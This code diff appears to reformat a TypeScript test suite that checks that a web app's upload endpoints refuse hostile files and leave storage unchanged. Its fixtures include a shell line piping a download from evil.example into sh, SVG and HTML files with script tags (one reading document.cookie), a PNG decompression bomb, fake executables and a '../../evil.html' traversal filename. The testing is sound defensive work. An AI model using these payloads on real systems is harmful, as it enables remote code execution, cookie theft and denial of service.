@@ -61,28 +61,79 @@ function pngBomb(width: number, height: number): Buffer {
   ihdr[9] = 0; // greyscale
   const row = Buffer.alloc(1 + Math.ceil(width / 8)); // filter byte + pixels, all zero
   const raw = Buffer.alloc(row.length * height);
-  return Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(raw, { level: 9 })), chunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    Buffer.from('89504e470d0a1a0a', 'hex'),
+    chunk('IHDR', ihdr),
+    chunk('IDAT', deflateSync(raw, { level: 9 })),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
-type Hostile = { name: string; filename: string; contentType: string; data: () => Promise<Buffer> | Buffer; status: number; message: RegExp };
+type Hostile = {
+  name: string;
+  filename: string;
+  contentType: string;
+  data: () => Promise<Buffer> | Buffer;
+  status: number;
+  message: RegExp;
+};
 
 const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(2000, 0x90)]);
-const PE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0'), Buffer.alloc(1000)]);
+const PE = Buffer.concat([
+  Buffer.from('MZ'),
+  Buffer.alloc(58),
+  Buffer.from([0x80, 0, 0, 0]),
+  Buffer.alloc(64),
+  Buffer.from('PE\0\0'),
+  Buffer.alloc(1000),
+]);
 const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
-const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>');
+const SVG = Buffer.from(
+  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>',
+);
 const OVER_5_MB = () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(5 * 1024 * 1024 + 10, 7)]);
 
 const hostileImages: Hostile[] = [
-  { name: 'an ELF executable renamed .png', filename: 'photo.png', contentType: 'image/png', data: () => ELF, status: 415, message: /not an image we can read/ },
-  { name: 'a Windows executable renamed .jpg', filename: 'photo.jpg', contentType: 'image/jpeg', data: () => PE, status: 415, message: /not an image we can read/ },
-  { name: 'a shell script renamed .gif', filename: 'photo.gif', contentType: 'image/gif', data: () => SCRIPT, status: 415, message: /not an image we can read/ },
-  { name: 'an SVG with a script', filename: 'logo.svg', contentType: 'image/svg+xml', data: () => SVG, status: 415, message: /Only JPEG, PNG, WebP or GIF images are accepted|not an image we can read/ },
+  {
+    name: 'an ELF executable renamed .png',
+    filename: 'photo.png',
+    contentType: 'image/png',
+    data: () => ELF,
+    status: 415,
+    message: /not an image we can read/,
+  },
+  {
+    name: 'a Windows executable renamed .jpg',
+    filename: 'photo.jpg',
+    contentType: 'image/jpeg',
+    data: () => PE,
+    status: 415,
+    message: /not an image we can read/,
+  },
+  {
+    name: 'a shell script renamed .gif',
+    filename: 'photo.gif',
+    contentType: 'image/gif',
+    data: () => SCRIPT,
+    status: 415,
+    message: /not an image we can read/,
+  },
+  {
+    name: 'an SVG with a script',
+    filename: 'logo.svg',
+    contentType: 'image/svg+xml',
+    data: () => SVG,
+    status: 415,
+    message: /Only JPEG, PNG, WebP or GIF images are accepted|not an image we can read/,
+  },
   {
     name: 'a truncated JPEG',
     filename: 'cut.jpg',
     contentType: 'image/jpeg',
     data: async () => {
-      const jpeg = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#884422' } }).jpeg().toBuffer();
+      const jpeg = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#884422' } })
+        .jpeg()
+        .toBuffer();
       return jpeg.subarray(0, Math.floor(jpeg.length / 2));
     },
     status: 415,
@@ -93,23 +144,81 @@ const hostileImages: Hostile[] = [
     filename: 'cut.png',
     contentType: 'image/png',
     data: async () => {
-      const png = await sharp({ create: { width: 300, height: 300, channels: 3, background: '#123456' } }).png({ compressionLevel: 0 }).toBuffer();
+      const png = await sharp({ create: { width: 300, height: 300, channels: 3, background: '#123456' } })
+        .png({ compressionLevel: 0 })
+        .toBuffer();
       return png.subarray(0, Math.floor(png.length / 3));
     },
     status: 415,
     message: /damaged or incomplete|not an image we can read/,
   },
-  { name: 'a 100-megapixel decompression bomb', filename: 'bomb.png', contentType: 'image/png', data: () => pngBomb(10_000, 10_000), status: 413, message: /too many pixels|under 40 megapixels/ },
-  { name: 'a file over 5 MB', filename: 'big.png', contentType: 'image/png', data: OVER_5_MB, status: 413, message: /larger than 5 MB/ },
-  { name: 'an empty file', filename: 'empty.png', contentType: 'image/png', data: () => Buffer.alloc(0), status: 400, message: /Choose an image file/ },
+  {
+    name: 'a 100-megapixel decompression bomb',
+    filename: 'bomb.png',
+    contentType: 'image/png',
+    data: () => pngBomb(10_000, 10_000),
+    status: 413,
+    message: /too many pixels|under 40 megapixels/,
+  },
+  {
+    name: 'a file over 5 MB',
+    filename: 'big.png',
+    contentType: 'image/png',
+    data: OVER_5_MB,
+    status: 413,
+    message: /larger than 5 MB/,
+  },
+  {
+    name: 'an empty file',
+    filename: 'empty.png',
+    contentType: 'image/png',
+    data: () => Buffer.alloc(0),
+    status: 400,
+    message: /Choose an image file/,
+  },
 ];
 
 const hostilePdfs: Hostile[] = [
-  { name: 'a PNG renamed .pdf', filename: 'proof.pdf', contentType: 'application/pdf', data: () => makePng(), status: 415, message: /Only PDF documents are accepted/ },
-  { name: 'an executable renamed .pdf', filename: 'proof.pdf', contentType: 'application/pdf', data: () => ELF, status: 415, message: /Only PDF documents are accepted/ },
-  { name: 'a PDF header with no end (truncated)', filename: 'proof.pdf', contentType: 'application/pdf', data: () => Buffer.from('%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n'), status: 415, message: /not a complete PDF/ },
-  { name: 'HTML pretending to be a PDF', filename: 'proof.pdf', contentType: 'application/pdf', data: () => Buffer.from('<html><script>alert(1)</script>%%EOF</html>'), status: 415, message: /Only PDF documents are accepted/ },
-  { name: 'a PDF over 5 MB', filename: 'proof.pdf', contentType: 'application/pdf', data: () => Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(5 * 1024 * 1024), Buffer.from('\n%%EOF\n')]), status: 413, message: /larger than 5 MB/ },
+  {
+    name: 'a PNG renamed .pdf',
+    filename: 'proof.pdf',
+    contentType: 'application/pdf',
+    data: () => makePng(),
+    status: 415,
+    message: /Only PDF documents are accepted/,
+  },
+  {
+    name: 'an executable renamed .pdf',
+    filename: 'proof.pdf',
+    contentType: 'application/pdf',
+    data: () => ELF,
+    status: 415,
+    message: /Only PDF documents are accepted/,
+  },
+  {
+    name: 'a PDF header with no end (truncated)',
+    filename: 'proof.pdf',
+    contentType: 'application/pdf',
+    data: () => Buffer.from('%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n'),
+    status: 415,
+    message: /not a complete PDF/,
+  },
+  {
+    name: 'HTML pretending to be a PDF',
+    filename: 'proof.pdf',
+    contentType: 'application/pdf',
+    data: () => Buffer.from('<html><script>alert(1)</script>%%EOF</html>'),
+    status: 415,
+    message: /Only PDF documents are accepted/,
+  },
+  {
+    name: 'a PDF over 5 MB',
+    filename: 'proof.pdf',
+    contentType: 'application/pdf',
+    data: () => Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(5 * 1024 * 1024), Buffer.from('\n%%EOF\n')]),
+    status: 413,
+    message: /larger than 5 MB/,
+  },
 ];
 
 describe.each(drivers)('hostile uploads (%s)', (driver) => {
@@ -132,43 +241,82 @@ describe.each(drivers)('hostile uploads (%s)', (driver) => {
   afterAll(async () => t?.close());
 
   /** Sends the upload; expects the refusal; proves no file and no row changed. */
-  async function expectRefused(url: string, field: string, headers: Record<string, string>, file: Hostile, fields: Record<string, string> = {}) {
+  async function expectRefused(
+    url: string,
+    field: string,
+    headers: Record<string, string>,
+    file: Hostile,
+    fields: Record<string, string> = {},
+  ) {
     const filesBefore = filesUnder(t.config.dataDir);
     const counts = await tableCounts(t.database.db);
-    const sums = await Promise.all(['users', 'associations', 'membership_requests'].map((table) => tableChecksum(t.database.db, table)));
-    const body = multipart([...Object.entries(fields).map(([f, value]) => ({ field: f, value })), { field, filename: file.filename, contentType: file.contentType, data: await file.data() }]);
-    const response = await t.app.inject({ method: 'POST', url, headers: { ...headers, ...body.headers }, payload: body.payload });
+    const sums = await Promise.all(
+      ['users', 'associations', 'membership_requests'].map((table) => tableChecksum(t.database.db, table)),
+    );
+    const body = multipart([
+      ...Object.entries(fields).map(([f, value]) => ({ field: f, value })),
+      { field, filename: file.filename, contentType: file.contentType, data: await file.data() },
+    ]);
+    const response = await t.app.inject({
+      method: 'POST',
+      url,
+      headers: { ...headers, ...body.headers },
+      payload: body.payload,
+    });
     expect({ file: file.name, status: response.statusCode }).toEqual({ file: file.name, status: file.status });
     const json = response.json<Record<string, unknown>>();
     expect(json.message).toMatch(file.message);
     expect(json[field]).toEqual([json.message]);
     expect({ file: file.name, files: filesUnder(t.config.dataDir) }).toEqual({ file: file.name, files: filesBefore });
     expect(await tableCounts(t.database.db)).toEqual(counts);
-    expect(await Promise.all(['users', 'associations', 'membership_requests'].map((table) => tableChecksum(t.database.db, table)))).toEqual(sums);
+    expect(
+      await Promise.all(
+        ['users', 'associations', 'membership_requests'].map((table) => tableChecksum(t.database.db, table)),
+      ),
+    ).toEqual(sums);
   }
 
   it.each(hostileImages.map((f) => [f.name, f] as const))('refuses %s as a profile picture', async (_name, file) => {
     await expectRefused(`${API}/auth/user/profile-picture/`, 'profile_picture', user.headers, file);
   });
 
-  it.each(hostileImages.map((f) => [f.name, f] as const))('refuses %s as a logo and as a cover', async (_name, file) => {
-    await expectRefused(`${API}/associations/${associationId}/logos/`, 'logo', admin.headers, file);
-    await expectRefused(`${API}/associations/${associationId}/covers/`, 'cover', admin.headers, file);
-  });
+  it.each(hostileImages.map((f) => [f.name, f] as const))(
+    'refuses %s as a logo and as a cover',
+    async (_name, file) => {
+      await expectRefused(`${API}/associations/${associationId}/logos/`, 'logo', admin.headers, file);
+      await expectRefused(`${API}/associations/${associationId}/covers/`, 'cover', admin.headers, file);
+    },
+  );
 
-  it.each(hostilePdfs.map((f) => [f.name, f] as const))('refuses %s as a proof document (and makes no membership request)', async (_name, file) => {
-    await expectRefused(`${API}/associations/${associationId}/membership-requests/`, 'proof_document', user.headers, file, {
-      institute: 'School',
-      batch: '2008',
-      roll_number: '12',
-      membership_type: String(typeId),
-    });
-  });
+  it.each(hostilePdfs.map((f) => [f.name, f] as const))(
+    'refuses %s as a proof document (and makes no membership request)',
+    async (_name, file) => {
+      await expectRefused(
+        `${API}/associations/${associationId}/membership-requests/`,
+        'proof_document',
+        user.headers,
+        file,
+        {
+          institute: 'School',
+          batch: '2008',
+          roll_number: '12',
+          membership_type: String(typeId),
+        },
+      );
+    },
+  );
 
   it('stores a real image re-encoded (a script appended to a valid PNG does not survive), under a name of its own', async () => {
     const png = Buffer.concat([await makePng(64, 64), Buffer.from('<script>alert(1)</script>')]);
-    const body = multipart([{ field: 'profile_picture', filename: '../../evil.html', contentType: 'text/html', data: png }]);
-    const response = await t.app.inject({ method: 'POST', url: `${API}/auth/user/profile-picture/`, headers: { ...user.headers, ...body.headers }, payload: body.payload });
+    const body = multipart([
+      { field: 'profile_picture', filename: '../../evil.html', contentType: 'text/html', data: png },
+    ]);
+    const response = await t.app.inject({
+      method: 'POST',
+      url: `${API}/auth/user/profile-picture/`,
+      headers: { ...user.headers, ...body.headers },
+      payload: body.payload,
+    });
     expect(response.statusCode).toBe(200);
     const url: string = response.json().profile_picture;
     expect(url).toMatch(/^\/media\/profile-pictures\/[0-9a-f-]{36}\.webp$/);
